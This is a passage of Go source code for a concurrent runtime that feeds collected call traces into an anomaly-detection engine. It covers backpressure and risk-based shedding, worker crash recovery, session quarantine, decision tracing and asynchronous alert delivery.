	rt.mu.RLock()
	s := rt.sessions[id]
	rt.mu.RUnlock()
	return s, s != nil
}

// ActiveSessions reports how many sessions are currently registered — a
// single atomic load, safe on the ingest hot path (Stats carries the same
// gauge but pays for full histogram snapshots).
func (rt *Runtime) ActiveSessions() int64 { return rt.ctr.ActiveSessions() }

// ID returns the session's identifier.
func (s *Session) ID() string { return s.id }

// Err reports why the session was quarantined (an error wrapping
// ErrSessionFailed), or nil while the session is healthy.
func (s *Session) Err() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.failure
}

// quarantine records the session's first failure cause; reports whether this
// call was the one that quarantined it.
func (s *Session) quarantine(cause error) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.failure != nil {
		return false
	}
	s.failure = fmt.Errorf("%w: %v", ErrSessionFailed, cause)
	return true
}

// Observe enqueues one call for detection. Under the Block policy it waits
// for queue space (backpressure); under DropNewest a full queue sheds the
// call and returns ErrDropped. A closed session or runtime returns
// ErrClosed; a quarantined session returns ErrSessionFailed.
func (s *Session) Observe(c collector.Call) error {
	return s.ObserveContext(context.Background(), c)
}

// ObserveContext is Observe bounded by ctx: Block-policy backpressure waits
// no longer than the context allows and surfaces ctx.Err().
func (s *Session) ObserveContext(ctx context.Context, c collector.Call) error {
	if err := s.ingestErr(); err != nil {
		return err
	}
	ta := s.rt.traces.Begin(trace.Context{}, s.id, "observe")
	return s.rt.enqueue(ctx, s.worker, op{s: s, call: c, kind: opObserve, ta: ta}, false)
}

// ObserveBatch enqueues a run of calls as one op. The batch is scored in one
// pass on the session's worker (detect.Engine.ObserveBatch), raising exactly
// the alerts per-call Observes would, so it is the preferred ingest form for
// replay and any producer that naturally batches — it amortises the queue
// round-trip and the engine dispatch across the batch. The calls slice is
// copied; the caller may reuse it immediately. Under DropNewest (and
// non-guaranteed ShedByRisk admissions) a saturated queue admits the batch
// prefix that fits the worker's call budget and sheds the tail: the error is
// a *BatchShedError wrapping ErrDropped (or ErrShed) whose Shed/Batch fields
// report the exact counts.
func (s *Session) ObserveBatch(calls []collector.Call) error {
	return s.ObserveBatchContext(context.Background(), calls)
}

// ObserveBatchContext is ObserveBatch bounded by ctx.
func (s *Session) ObserveBatchContext(ctx context.Context, calls []collector.Call) error {
	ta := s.rt.traces.Begin(trace.Context{}, s.id, "observe")
	return s.observeBatchTraced(ctx, ta, calls)
}

// ObserveBatchTraced is ObserveBatchContext under an externally opened
// decision trace (see Runtime.BeginTrace): the network ingest and tenant
// routing layers open the trace before routing so its root span covers
// decode and routing, then hand it to the session here. The session takes
// ownership of ta on every path — a batch rejected before reaching a worker
// finishes the trace immediately, an admitted one is finished by the worker
// after scoring (and after any async sink deliveries it holds references
// for). ta may be nil (tracing disabled); the call then behaves exactly like
// ObserveBatchContext.
func (s *Session) ObserveBatchTraced(ctx context.Context, ta *trace.Active, calls []collector.Call) error {
	return s.observeBatchTraced(ctx, ta, calls)
}

func (s *Session) observeBatchTraced(ctx context.Context, ta *trace.Active, calls []collector.Call) error {
	if len(calls) == 0 {
		ta.Finish()
		return nil
	}
	if err := s.ingestErr(); err != nil {
		ta.Finish()
		return err
	}
	owned := make([]collector.Call, len(calls))
	copy(owned, calls)
	return s.rt.enqueue(ctx, s.worker, op{s: s, calls: owned, kind: opObserveBatch, ta: ta}, false)
}

func (s *Session) ingestErr() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.failure != nil {
		return s.failure
	}
	if s.closed {
		return ErrClosed
	}
	return nil
}

// ObserveTrace replays one whole collected execution through the session and
// returns the session's full alert history after judging the trace's final
// short window — the concurrent counterpart of Monitor.ObserveTrace. The
// session stays open for further traces.
//
// Under DropNewest, calls shed by a full queue truncate the replay: the
// history is still returned, together with an error wrapping ErrDropped that
// reports how many of the trace's calls were shed, so callers can tell a
// truncated replay from a complete one. Any other ingest error aborts the
// replay.
func (s *Session) ObserveTrace(tr collector.Trace) ([]detect.Alert, error) {
	return s.ObserveTraceContext(context.Background(), tr)
}

// ObserveTraceContext is ObserveTrace bounded by ctx.
func (s *Session) ObserveTraceContext(ctx context.Context, tr collector.Trace) ([]detect.Alert, error) {
	dropped := 0
	for _, c := range tr {
		switch err := s.ObserveContext(ctx, c); {
		case err == nil:
		case errors.Is(err, ErrDropped):
			dropped++
		default:
			return nil, err
		}
	}
	history, err := s.FlushContext(ctx)
	if err != nil {
		return history, err
	}
	if dropped > 0 {
		return history, fmt.Errorf("%w (%d of %d trace calls shed)", ErrDropped, dropped, len(tr))
	}
	return history, nil
}

// Flush waits for every call enqueued so far to be scored, judges a pending
// short window (a stream shorter than the window length), resets the sliding
// window so the next trace starts clean, and returns the session's full
// alert history.
func (s *Session) Flush() ([]detect.Alert, error) {
	return s.FlushContext(context.Background())
}

// FlushContext is Flush bounded by ctx. If the context expires while the
// flush is queued, the worker still performs it later; only the wait is
// abandoned.
func (s *Session) FlushContext(ctx context.Context) ([]detect.Alert, error) {
	if err := s.ingestErr(); err != nil {
		return nil, err
	}
	done := make(chan reply, 1)
	// The flush is traced in its own right: it judges the pending short
	// window, which is where SQL-channel and fused verdicts on partial
	// windows surface.
	ta := s.rt.traces.Begin(trace.Context{}, s.id, "flush")
	if err := s.rt.enqueue(ctx, s.worker, op{s: s, kind: opFlush, done: done, ta: ta}, true); err != nil {
		return nil, err
	}
	return s.await(ctx, done)
}

// Close flushes the session, returns its full alert history, removes it from
// the runtime, and recycles its engine. Further calls return ErrClosed.
// Closing a quarantined session releases its registration and returns
// ErrSessionFailed (its history died with its engine).
func (s *Session) Close() ([]detect.Alert, error) {
	return s.CloseContext(context.Background())
}

// CloseContext is Close bounded by ctx. The session is deregistered even if
// the wait is abandoned; the worker still retires its engine later.
func (s *Session) CloseContext(ctx context.Context) ([]detect.Alert, error) {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return nil, ErrClosed
	}
	s.closed = true
	s.mu.Unlock()

	done := make(chan reply, 1)
	// The session is already marked closed, so enqueue directly (control ops
	// bypass the DropNewest policy).
	ta := s.rt.traces.Begin(trace.Context{}, s.id, "close")
	err := s.rt.enqueue(ctx, s.worker, op{s: s, kind: opClose, done: done, ta: ta}, true)
	var alerts []detect.Alert
	if err == nil {
		alerts, err = s.await(ctx, done)
	}
	s.deregister()
	return alerts, err
}

// await waits for a control op's reply, bounded by ctx and by runtime
// shutdown (the workers answer every queued control op before exiting, but a
// send that raced past shutdown could otherwise wait forever).
func (s *Session) await(ctx context.Context, done chan reply) ([]detect.Alert, error) {
	select {
	case r := <-done:
		return r.alerts, r.err
	case <-ctx.Done():
		return nil, ctx.Err()
	case <-s.rt.stopped:
		// A worker may have replied concurrently with shutdown.
		select {
		case r := <-done:
			return r.alerts, r.err
		default:
			return nil, ErrClosed
		}
	}
}

func (s *Session) deregister() {
	rt := s.rt
	rt.mu.Lock()
	owned := rt.sessions[s.id] == s
	if owned {
		delete(rt.sessions, s.id)
	}
	rt.mu.Unlock()
	if owned {
		rt.ctr.SessionClosed()
	}
}

// enqueue routes an op to a worker, recording the trace admission span for
// traced ops. Trace ownership transfers to the worker only when the op
// actually reaches a queue; fully rejected ops finish their trace here, so
// producer and worker never double-finish.
func (rt *Runtime) enqueue(ctx context.Context, worker int, o op, control bool) error {
	if o.ta == nil {
		return rt.enqueueOp(ctx, worker, o, control)
	}
	start := time.Now()
	depth := rt.pending[worker].Load()
	// Once the op reaches a queue the worker owns the creator reference and
	// may finish the op — and thus commit the trace — before this producer
	// records the admit span. Holding our own reference across the admission
	// window keeps the trace uncommitted until the span lands.
	o.ta.Ref()
	defer o.ta.Release()
	err := rt.enqueueOp(ctx, worker, o, control)
	verdict, shedCalls := "admitted", 0
	enqueued := err == nil
	var bse *BatchShedError
	switch {
	case err == nil:
	case errors.As(err, &bse):
		shedCalls = bse.Shed
		verdict = "shed"
		if bse.Shed < bse.Batch {
			verdict = "partial"
			enqueued = true // the admitted prefix is queued; the worker owns the trace
		}
	case errors.Is(err, ErrShed):
		verdict, shedCalls = "shed", 1
	case errors.Is(err, ErrDropped):
		verdict, shedCalls = "dropped", 1
	default:
		verdict = "rejected" // closed runtime or expired context
	}
	o.ta.Event(trace.RootSpan, "admit", start,
		trace.Int("queue_depth", depth),
		trace.Int("worker", int64(worker)),
		trace.String("policy", rt.cfg.policy.String()),
		trace.String("verdict", verdict),
		trace.Int("shed_calls", int64(shedCalls)))
	if !enqueued {
		o.ta.Finish()
	}
	return err
}

// enqueueOp is the policy-dispatching enqueue body. Control ops (flush/close)
// always use backpressure: they are rare, small, and their reply channel must
// be served. Blocking sends are bounded by ctx and by runtime shutdown.
func (rt *Runtime) enqueueOp(ctx context.Context, worker int, o op, control bool) error {
	rt.mu.RLock()
	if rt.closed {
		rt.mu.RUnlock()
		return ErrClosed
	}
	q := rt.queues[worker]
	rt.mu.RUnlock()
	if !control {
		switch rt.cfg.policy {
		case DropNewest:
			return rt.enqueueDropNewest(q, worker, o)
		case ShedByRisk:
			return rt.enqueueShed(ctx, q, worker, o)
		}
	}
	n := o.callCount()
	rt.trackPending(worker, n)
	select {
	case q <- o:
		return nil
	case <-rt.stopped:
		rt.releasePending(worker, n)
		return ErrClosed
	case <-ctx.Done():
		rt.releasePending(worker, n)
		return ctx.Err()
	}
}

// trackPending charges n offered calls to worker w's pending ledger and
// folds the new depth into the lifetime high-water mark.
func (rt *Runtime) trackPending(w int, n uint64) {
	if n == 0 {
		return
	}
	rt.ctr.NoteQueueDepth(rt.pending[w].Add(int64(n)))
}

func (rt *Runtime) releasePending(w int, n uint64) {
	if n > 0 {
		rt.pending[w].Add(-int64(n))
	}
}

// reserve charges up to n calls against worker w's call budget (queueDepth
// calls of un-dequeued backlog) and returns how many fit — the admitted
// batch prefix. The unadmitted remainder is released immediately.
func (rt *Runtime) reserve(w, n int) int {
	now := rt.pending[w].Add(int64(n))
	admit := n
	if over := now - int64(rt.cfg.queueDepth); over > 0 {
		cut := int(over)
		if cut > n {
			cut = n
		}
		admit = n - cut
		rt.pending[w].Add(-int64(cut))
		now -= int64(cut)
	}
	rt.ctr.NoteQueueDepth(now)
	return admit
}

// dropErr shapes the rejection error: per-call ops keep the plain sentinel
// contract; batch ops carry exact counts via BatchShedError.
func dropErr(o *op, shedCount, batch int, cause error) error {
	if o.kind != opObserveBatch {
		return cause
	}
	return &BatchShedError{Shed: shedCount, Batch: batch, cause: cause}
}

// enqueueDropNewest admits the batch prefix that fits the worker's call
// budget, sheds the tail, and reports exact counts — a full queue no longer
// rejects a whole batch when part of it fits.
func (rt *Runtime) enqueueDropNewest(q chan op, worker int, o op) error {
	n := int(o.callCount())
	admit := rt.reserve(worker, n)
	if admit == 0 {
		rt.ctr.AddDropped(uint64(n))
		return dropErr(&o, n, n, ErrDropped)
	}
	if admit < n {
		o.calls = o.calls[:admit]
	}
	select {
	case q <- o:
		if admit < n {
			rt.ctr.AddDropped(uint64(n - admit))
			return dropErr(&o, n-admit, n, ErrDropped)
		}
		return nil
	default:
		// The call budget had room but the op-slot channel is full (many
		// small ops queued): shed the whole batch.
		rt.releasePending(worker, uint64(admit))
		rt.ctr.AddDropped(uint64(n))
		return dropErr(&o, n, n, ErrDropped)
	}
}

// enqueueShed is the ShedByRisk admission path: one deterministic controller
// decision per op, guaranteed (blocking) admission for high-risk sessions,
// budgeted prefix admission for the rest.
func (rt *Runtime) enqueueShed(ctx context.Context, q chan op, worker int, o op) error {
	n := int(o.callCount())
	sr := o.s.risk
	occ := float64(rt.pending[worker].Load()) / float64(rt.cfg.queueDepth)
	d := rt.shed.Decide(sr, worker, occ)
	if !d.Admit {
		rt.noteShed(o.s, d, n, o.ta.ID())
		return dropErr(&o, n, n, ErrShed)
	}
	if d.Guaranteed {
		// High-risk sessions are always scored: blocking backpressure,
		// bounded only by the caller's context and shutdown.
		rt.trackPending(worker, uint64(n))
		select {
		case q <- o:
			rt.shed.Admitted(sr, d, n)
			return nil
		case <-rt.stopped:
			rt.releasePending(worker, uint64(n))
			return ErrClosed
		case <-ctx.Done():
			rt.releasePending(worker, uint64(n))
			return ctx.Err()
		}
	}
	admit := rt.reserve(worker, n)
	if admit == 0 {
		rt.noteShed(o.s, d, n, o.ta.ID())
		return dropErr(&o, n, n, ErrShed)
	}
	if admit < n {
		o.calls = o.calls[:admit]
	}
	select {
	case q <- o:
		rt.shed.Admitted(sr, d, admit)
		if admit < n {
			rt.noteShed(o.s, d, n-admit, o.ta.ID())
			return dropErr(&o, n-admit, n, ErrShed)
		}
		return nil
	default:
		rt.releasePending(worker, uint64(admit))
		rt.noteShed(o.s, d, n, o.ta.ID())
		return dropErr(&o, n, n, ErrShed)
	}
}

// noteShed does the bookkeeping of one shed outcome: controller risk-mass
// accounting, the Stats.Shed counter, and decision provenance correlated to
// the op's trace.
func (rt *Runtime) noteShed(s *Session, d shed.Decision, calls int, traceID string) {
	rt.shed.Shed(s.risk, d, calls)
	rt.ctr.AddShed(uint64(calls))
	rt.recordShed(s, d, calls, traceID)
}

// recordShed writes shed provenance so an operator can see exactly what was
// not scored and why. The first shed on a session bypasses the sampling gate
// (like an alert, it is evidence that must survive); later ones are sampled
// 1-in-N with the cumulative per-session count carried on each record.
func (rt *Runtime) recordShed(s *Session, d shed.Decision, calls int, traceID string) {
	if !rt.rec.Enabled() {
		return
	}
	total := s.risk.ShedCalls()
	dec := obsv.Decision{
		Session:     s.id,
		UnixNanos:   time.Now().UnixNano(),
		Flag:        "Shed",
		Generation:  s.lastGen.Load(),
		Shed:        true,
		ShedCalls:   calls,
		SessionShed: total,
		Risk:        d.Risk,
		Occupancy:   d.Occupancy,
		Trace:       traceID,
	}
	if total == uint64(calls) {
		rt.rec.RecordAlways(dec)
		return
	}
	rt.rec.Record(dec)
}

// supervise owns one worker slot: it runs the worker loop and restarts it
// with capped exponential backoff when it crashes. The ingest queue survives
// restarts, so queued ops of healthy sessions are only delayed, never lost.
func (rt *Runtime) supervise(w int) {
	defer rt.wg.Done()
	backoff := restartBackoffBase
	for {
		if rt.runWorker(w) {
			return // clean shutdown
		}
		rt.ctr.AddWorkerRestart()
		if l := rt.cfg.logger; l != nil {
			l.Warn("worker crashed; restarting", "worker", w, "backoff", backoff)
		}
		select {
		case <-time.After(backoff):
		case <-rt.stopped:
			rt.drainQueue(w)
			return
		}
		if backoff *= 2; backoff > restartBackoffCap {
			backoff = restartBackoffCap
		}
	}
}

// runWorker serves ops until shutdown (returns true) or a panic that escaped
// the per-op recovery kills it (returns false after quarantining the session
// whose op was in flight).
func (rt *Runtime) runWorker(w int) (clean bool) {
	q := rt.queues[w]
	var cur *op
	// o lives outside the loop so taking its address escapes it to the heap
	// once per worker run, not once per op.
	var o op
	defer func() {
		if r := recover(); r != nil {
			rt.ctr.AddPanic()
			if cur != nil {
				rt.failSession(cur, fmt.Errorf("worker %d crashed: %v", w, r))
				// A panic outside process (the worker hook) leaves the op's
				// trace open; process's own recovery closes its own.
				cur.finishTrace()
			}
		}
	}()
	for {
		select {
		case o = <-q:
			rt.releasePending(w, o.callCount())
			cur = &o
			if h := rt.cfg.workerHook; h != nil {
				// Outside the per-op recovery: a panic here kills the worker.
				h(w, o.s.id)
			}
			rt.process(&o)
			cur = nil
		case <-rt.stopped:
			rt.drainQueue(w)
			return true
		}
	}
}

// drainQueue empties a worker queue during shutdown, answering control ops
// so no Flush/Close waits on a stopped worker.
func (rt *Runtime) drainQueue(w int) {
	q := rt.queues[w]
	for {
		select {
		case o := <-q:
			if n := o.callCount(); n > 0 {
				rt.releasePending(w, n)
				rt.ctr.AddDropped(n)
			}
			o.reply(reply{err: ErrClosed})
			o.finishTrace()
		default:
			return
		}
	}
}

// failSession quarantines the session an op was addressed to, discards its
// (suspect) engine rather than recycling it, and answers the op.
func (rt *Runtime) failSession(o *op, cause error) {
	if o.s.quarantine(cause) {
		rt.ctr.AddQuarantined()
		if l := rt.cfg.logger; l != nil {
			l.Warn("session quarantined",
				"session", o.s.id,
				"generation", o.s.lastGen.Load(),
				"trace", o.ta.ID(),
				"cause", cause)
		}
	}
	o.s.engine = nil
	o.reply(reply{err: o.s.Err()})
}

// process runs one op under per-op panic recovery: a panicking engine, judge
// hook, or profile quarantines only the offending session and the worker
// moves on to its next op.
func (rt *Runtime) process(o *op) {
	// Registered first so it runs last: the panic-recovery defer below still
	// sees o.ta for its quarantine log, and sink deliveries take their trace
	// references inside the body, before the worker's reference is released.
	defer o.finishTrace()
	defer func() {
		if r := recover(); r != nil {
			rt.ctr.AddPanic()
			rt.failSession(o, fmt.Errorf("recovered panic: %v", r))
		}
	}()
	s := o.s
	if s.dead {
		// An op that raced with Close and was enqueued behind the close
		// op must not resurrect an engine on the dead session.
		if n := o.callCount(); n > 0 {
			rt.ctr.AddDropped(n)
		}
		o.reply(reply{})
		return
	}
	if err := s.Err(); err != nil {
		// Quarantined: shed queued observes, answer control ops with the
		// failure, and let a close op retire the registration.
		if n := o.callCount(); n > 0 {
			rt.ctr.AddDropped(n)
		}
		if o.kind == opClose {
			s.dead = true
		}
		o.reply(reply{err: err})
		return
	}
	if s.engine == nil {
		rt.installEngine(s)
	}
	s.lastGen.Store(s.gen)
	// One clock capture per op: the same timestamp stamps the latency
	// histogram, the observer hooks, and every Decision this op produces.
	start := time.Now()
	s.opTime = start
	var scoreSpan trace.SpanHandle
	if rt.traces.Enabled() {
		// Reset the per-op tracing state unconditionally — even for an
		// untraced op (ta == nil), a pointer a panicked prior op left behind
		// must be cleared (its Active may already be recycled through the
		// store's pool).
		s.curTrace, s.scoreSpan, s.judgeSpans = o.ta, 0, 0
		if o.ta != nil {
			scoreSpan = o.ta.StartSpan(trace.RootSpan, "score")
			s.scoreSpan = scoreSpan.ID()
		}
	}
	switch o.kind {
	case opObserve:
		alerts := s.engine.Observe(o.call)
		rt.ctr.AddCall(time.Since(start).Nanoseconds())
		rt.noteSensitive(s)
		rt.finishScore(s, o, scoreSpan, 1, alerts)
		rt.recordAlerts(s, alerts, o.ta.ID())
		rt.deliver(s, alerts, o.ta)
		if err := s.engine.Err(); err != nil {
			// Error-propagating judge hook: quarantine without a panic.
			rt.failSession(o, err)
		}
	case opObserveBatch:
		alerts := s.engine.ObserveBatch(o.calls)
		rt.ctr.AddCalls(len(o.calls), time.Since(start).Nanoseconds())
		rt.noteSensitive(s)
		rt.finishScore(s, o, scoreSpan, len(o.calls), alerts)
		rt.recordAlerts(s, alerts, o.ta.ID())
		rt.deliver(s, alerts, o.ta)
		if err := s.engine.Err(); err != nil {
			rt.failSession(o, err)
		}
	case opFlush, opClose:
		before := len(s.engine.Alerts())
		history := s.engine.Flush()
		rt.ctr.AddFlush(time.Since(start).Nanoseconds())
		// The flush judges the pending short window, so SQL-channel and
		// fused verdicts surface here: the flush op's own trace carries
		// their judgement spans and the alert correlation.
		rt.finishScore(s, o, scoreSpan, 0, history[before:])
		rt.recordAlerts(s, history[before:], o.ta.ID())
		rt.deliver(s, history[before:], o.ta)
		// Windows never straddle traces: the next stream starts clean.
		s.engine.ResetWindow()
		out := make([]detect.Alert, len(history))
		copy(out, history)
		if err := s.engine.Err(); err != nil {
			rt.failSession(o, err)
			return
		}
		if o.kind == opClose {
			eng, gen := s.engine, s.gen
			s.engine = nil
			s.dead = true
			if rt.cur.Load().gen == gen {
				rt.pool.Put(&pooledEngine{gen: gen, e: eng})
			} else {
				rt.ctr.AddEngineRetired()
			}
		} else if rt.cur.Load().gen != s.gen {
			// Trace boundary (window just reset) with a newer generation
			// published: upgrade the session now, carrying its cumulative
			// alert history and sequence counter into the new engine so the
			// next trace scores on the new profile with continuous history.
			old := s.engine
			rt.installEngine(s)
			s.engine.Adopt(old)
			s.sensSeen = s.engine.SensitiveTouches()
			rt.ctr.AddEngineRetired()
		}
		o.reply(reply{alerts: out})
	}
}

// finishScore closes a traced op's engine-scoring span with the op's
// judgement summary (windows judged, latest per-channel score and threshold,
// scorer mode, score-error bound, judging generation) and marks the trace
// alert-bearing when the op raised alerts so the store's keep-alerts
// retention applies. The alert-raising op's trace ID also becomes the
// observe-latency histogram's exemplar. No-op for untraced ops.
func (rt *Runtime) finishScore(s *Session, o *op, h trace.SpanHandle, calls int, alerts []detect.Alert) {
	if o.ta == nil {
		return
	}
	sum := s.engine.TakeTraceSummary()
	attrs := []trace.Attr{
		trace.Int("calls", int64(calls)),
		trace.Int("windows", int64(sum.Windows)),
		trace.Int("alerts", int64(len(alerts))),
		trace.String("scorer", rt.cfg.scorerMode.String()),
		trace.Int("generation", int64(s.gen)),
	}
	if sum.HMMSeen {
		attrs = append(attrs,
			trace.Float("hmm_score", sum.HMMScore),
			trace.Float("hmm_threshold", sum.HMMThreshold),
			trace.Float("score_error_bound", sum.HMMBound))
	}
	if sum.SQLSeen {
		attrs = append(attrs,
			trace.Float("sql_score", sum.SQLScore),
			trace.Float("sql_threshold", sum.SQLThreshold))
	}
	h.End(attrs...)
	if len(alerts) > 0 {
		o.ta.MarkAlert()
		rt.ctr.NoteObserveExemplar(o.ta.ID())
	}
	s.curTrace, s.scoreSpan = nil, 0
}

// noteSensitive feeds the engine's sensitive-touch delta into the session's
// risk state. Runs on the worker goroutine after each observe op.
func (rt *Runtime) noteSensitive(s *Session) {
	if s.risk == nil {
		return
	}
	if t := s.engine.SensitiveTouches(); t > s.sensSeen {
		s.risk.NoteSensitive()
		s.sensSeen = t
	}
}

// installEngine equips s with an engine over the current generation: a pooled
// engine of that generation if one is available (stale pooled engines are
// discarded and counted), a freshly built one otherwise. Runs on the
// session's worker goroutine.
func (rt *Runtime) installEngine(s *Session) {
	g := rt.cur.Load()
	pe := rt.pool.Get().(*pooledEngine)
	if pe.gen != g.gen {
		rt.ctr.AddEngineRetired()
		pe = &pooledEngine{gen: g.gen, e: detect.NewEngine(g.p)}
	}
	e := pe.e
	e.Reset()
	if rt.cfg.threshold != nil {
		e.SetThreshold(*rt.cfg.threshold)
	}
	if rt.cfg.windowLen > 0 {
		e.SetWindowLen(rt.cfg.windowLen)
	}
	e.SetScorerMode(rt.cfg.scorerMode)
	if rt.cfg.sqlProfile != nil {
		e.SetSQLChannel(sqlchan.NewScorer(rt.cfg.sqlProfile), rt.cfg.fusion)
	}
	if rt.shed != nil {
		e.SetSensitiveLabels(rt.shed.Config().SensitiveLabels)
	}
	if rt.traces.Enabled() {
		e.SetTraceHook(func(ev detect.TraceEvent) {
			// Only flagged judgements reach this hook (healthy windows fold
			// into the engine's TraceSummary), and only the op's first
			// maxJudgementSpans of them get full per-channel spans, so an
			// alert-dense batch cannot blow the span cap.
			a := s.curTrace
			if a == nil || !ev.Flagged || s.judgeSpans >= maxJudgementSpans {
				return
			}
			s.judgeSpans++
			now := time.Now()
			a.Event(s.scoreSpan, "score."+ev.Channel, now,
				trace.Int("seq", int64(ev.Seq)),
				trace.Float("score", ev.Score),
				trace.Float("threshold", ev.Threshold),
				trace.Float("margin", ev.Threshold-ev.Score),
				trace.Float("score_error_bound", ev.Bound),
				trace.Bool("flagged", true))
			if ev.FusedFired || (ev.HMMSeen && ev.SQLSeen) {
				a.Event(s.scoreSpan, "fusion", now,
					trace.Float("fused_score", ev.Fused),
					trace.Float("hmm_margin", ev.HMMMargin),
					trace.Float("sql_margin", ev.SQLMargin),
					trace.Bool("escalated", ev.FusedFired))
			}
		})
	}
	if rt.cfg.judgeHook != nil || rt.cfg.observer != nil || rt.rec.Enabled() || s.risk != nil {
		id, hook, obs, rec, risk := s.id, rt.cfg.judgeHook, rt.cfg.observer, rt.rec, s.risk
		e.SetJudgeHook(func(seq int, score float64, flagged bool) error {
			// The shed tier's per-session risk signals come from the same
			// judgement stream the observers tap.
			if risk != nil {
				risk.NoteJudgement(score, flagged)
			}
			// Unflagged judgements are sampled here (1-in-N); flagged ones
			// are recorded with their full alert context in recordAlerts.
			if !flagged && rec.Enabled() {
				rec.Record(obsv.Decision{
					Session:    id,
					Seq:        seq,
					UnixNanos:  s.opTime.UnixNano(),
					Score:      score,
					Threshold:  e.Threshold(),
					Flag:       detect.FlagNormal.String(),
					Generation: s.gen,
					Trace:      s.curTrace.ID(),
				})
			}
			if obs != nil {
				obs(id, seq, s.opTime, score, flagged)
			}
			if hook != nil {
				return hook(id, seq, score, flagged)
			}
			return nil
		})
	}
	s.engine = e
	s.gen = pe.gen
	s.sensSeen = e.SensitiveTouches()
}

// recordAlerts writes one provenance Decision per raised alert — alerts are
// always sampled, so the evidence behind every flag survives in the ring.
// traceID correlates each record with the op's decision trace ("" when
// untraced). Runs on the session's worker goroutine.
func (rt *Runtime) recordAlerts(s *Session, alerts []detect.Alert, traceID string) {
	if !rt.rec.Enabled() {
		return
	}
	for i := range alerts {
		a := &alerts[i]
		bound := a.ScoreErrorBound
		if math.IsInf(bound, 1) {
			bound = math.MaxFloat64
		}
		rt.rec.Record(obsv.Decision{
			Session:         s.id,
			Seq:             a.Seq,
			UnixNanos:       s.opTime.UnixNano(),
			Score:           a.Score,
			Threshold:       a.Threshold,
			Flag:            a.Flag.String(),
			Flagged:         true,
			Generation:      s.gen,
			Label:           a.Label,
			Caller:          a.Caller,
			ScoreErrorBound: bound,
			Channels:        a.Channels,
			SQLScore:        a.SQLScore,
			SQLThreshold:    a.SQLThreshold,
			FusedScore:      a.FusedScore,
			Trace:           traceID,
		})
	}
}

// deliver counts alerts and hands them to the async sink pipeline without
// ever blocking the worker: a full buffer sheds the delivery. A traced op
// keeps one trace reference per enqueued delivery, so the sink span still
// lands in the trace after the op itself completes.
func (rt *Runtime) deliver(s *Session, alerts []detect.Alert, ta *trace.Active) {
	for _, a := range alerts {
		rt.ctr.AddAlert(int(a.Flag))
		for _, ch := range a.Channels {
			rt.ctr.AddChannelAlert(detect.ChannelIndex(ch))
		}
	}
	if rt.alertq == nil {
		return
	}
	for _, a := range alerts {
		ta.Ref()
		select {
		case rt.alertq <- alertMsg{session: s.id, alert: a, gen: s.gen, ta: ta}:
		default:
			rt.ctr.AddSinkDropped(1)
			rt.logSinkOverflow(s.id, s.gen, ta.ID(), "buffer full")
			ta.Event(trace.RootSpan, "sink", time.Now(),
				trace.String("verdict", "shed"),
				trace.String("cause", "buffer full"),
				trace.Int("seq", int64(a.Seq)))
			ta.Release()
		}
	}
}

// logSinkOverflow emits the sink-overflow slog event with the uniform
// session/generation/trace correlation keys every session-scoped event
// carries.
func (rt *Runtime) logSinkOverflow(session string, gen uint64, traceID, cause string) {
	if l := rt.cfg.logger; l != nil {
		l.Warn("sink overflow",
			"session", session,
			"generation", gen,
			"trace", traceID,
			"cause", cause)
	}
}

// dispatchLoop forwards buffered alerts to the deliverer, giving each
// delivery sinkTimeout to be accepted; alerts the (possibly stalled) sink
// cannot take in time are shed and counted.
func (rt *Runtime) dispatchLoop() {
	defer rt.sinkWG.Done()
	timer := time.NewTimer(rt.cfg.sinkTimeout)
	defer timer.Stop()
	for m := range rt.alertq {
		if !timer.Stop() {
			select {
			case <-timer.C:
			default:
			}
		}
		timer.Reset(rt.cfg.sinkTimeout)
		select {
		case rt.handoff <- m:
		case <-timer.C:
			rt.ctr.AddSinkDropped(1)
			rt.logSinkOverflow(m.session, m.gen, m.ta.ID(), "handoff timeout")
			m.ta.Event(trace.RootSpan, "sink", time.Now(),
				trace.String("verdict", "shed"),
				trace.String("cause", "handoff timeout"),
				trace.Int("seq", int64(m.alert.Seq)))
			m.ta.Release()
		}
	}
	close(rt.handoff)
}

// deliverLoop invokes the user sink one alert at a time under panic
// recovery.
func (rt *Runtime) deliverLoop() {
	defer rt.sinkWG.Done()
	for m := range rt.handoff {
		rt.callSink(m)
	}
}

func (rt *Runtime) callSink(m alertMsg) {
	start := time.Now()
	defer func() {
		rt.ctr.AddSinkDelivery(time.Since(start).Nanoseconds())
		verdict := "delivered"
		if r := recover(); r != nil {
			rt.ctr.AddSinkPanic()
			verdict = "panicked"
		}
		m.ta.Event(trace.RootSpan, "sink", start,
			trace.String("verdict", verdict),
			trace.String("flag", m.alert.Flag.String()),
			trace.Int("seq", int64(m.alert.Seq)))
		m.ta.Release()
	}()
	rt.cfg.sink(m.session, m.alert)
}

// Close flushes every open session's partial window, drains the workers and
// the sink pipeline, and stops them. The runtime accepts no calls
// afterwards. Close is idempotent; concurrent Observes racing with Close
// either complete or return ErrClosed. Close waits for the sink to finish
// its in-flight delivery — use CloseContext to bound shutdown when the sink
// may hang.
func (rt *Runtime) Close() error {
	return rt.CloseContext(context.Background())
}

// CloseContext is Close bounded by ctx: the per-session drain and the final
// worker/sink join each give up when the context expires, returning
// ctx.Err() while shutdown completes in the background. Either way the
// runtime stops accepting calls before CloseContext returns.
func (rt *Runtime) CloseContext(ctx context.Context) error {
	rt.closeMu.Lock()
	defer rt.closeMu.Unlock()

	rt.mu.Lock()
	if rt.closed {
		rt.mu.Unlock()
		return nil
	}
	// Refuse new session registrations from this point: a session registered
	// after this snapshot would otherwise never be flushed and would leak
	// the ActiveSessions gauge.
	rt.draining = true
	open := make([]*Session, 0, len(rt.sessions))
	for _, s := range rt.sessions {
		open = append(open, s)
	}
	rt.mu.Unlock()

	// Flush sessions while ingest is still accepted, so their partial
	// windows are judged and delivered to the sink; a dead deadline stops
	// the drain early.
	var ctxErr error
	for _, s := range open {
		if _, err := s.CloseContext(ctx); err != nil &&
			(errors.Is(err, context.DeadlineExceeded) || errors.Is(err, context.Canceled)) {
			ctxErr = err
			break
		}
	}

	rt.mu.Lock()
	rt.closed = true
	rt.mu.Unlock()
	rt.stopOnce.Do(func() { close(rt.stopped) })

	finished := make(chan struct{})
	go func() {
		rt.wg.Wait()
		if rt.alertq != nil {
			close(rt.alertq)
			rt.sinkWG.Wait()
		}
		close(finished)
	}()
	select {
	case <-finished:
		return ctxErr
	case <-ctx.Done():
		return ctx.Err()
	}
}

// Stats is a point-in-time snapshot of the runtime's health.
